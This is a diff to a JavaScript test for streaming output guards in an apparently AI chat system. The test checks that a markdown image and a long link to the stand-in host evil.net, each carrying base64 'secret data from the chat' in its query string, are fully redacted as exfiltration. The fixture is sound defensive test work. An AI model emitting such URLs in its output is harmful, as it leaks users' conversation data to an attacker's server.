@@ -97,10 +97,15 @@ describe('output guards mid-stream', () => {
   it('remove a long link or image whole, though its start looked harmless for longer than the hold-back', async () => {
     const alt = 'a picture of the quarterly results chart for the team '.repeat(4);
     const path = 'static/images/'.repeat(16);
-    const text = `See ![${alt}](https://cdn.evil.net/x.png) and https://evil.net/${path}q?d=${'c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA'} end`;
+    const data = 'c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA';
+    const text = `See ![${alt}](https://cdn.evil.net/x.png?d=${data}) and https://evil.net/${path}q?d=${data} end`;
     for (let size = 1; size <= 16; size++) {
       const { out } = await stream(text, size, guards('response'));
-      assert.equal(out, 'See [REDACTED:off-list-image] and [REDACTED:link-exfiltration] end', `size ${size}`);
+      assert.equal(
+        out,
+        'See [REDACTED:image-exfiltration] and [REDACTED:link-exfiltration] end',
+        `size ${size}`,
+      );
     }
   });
 
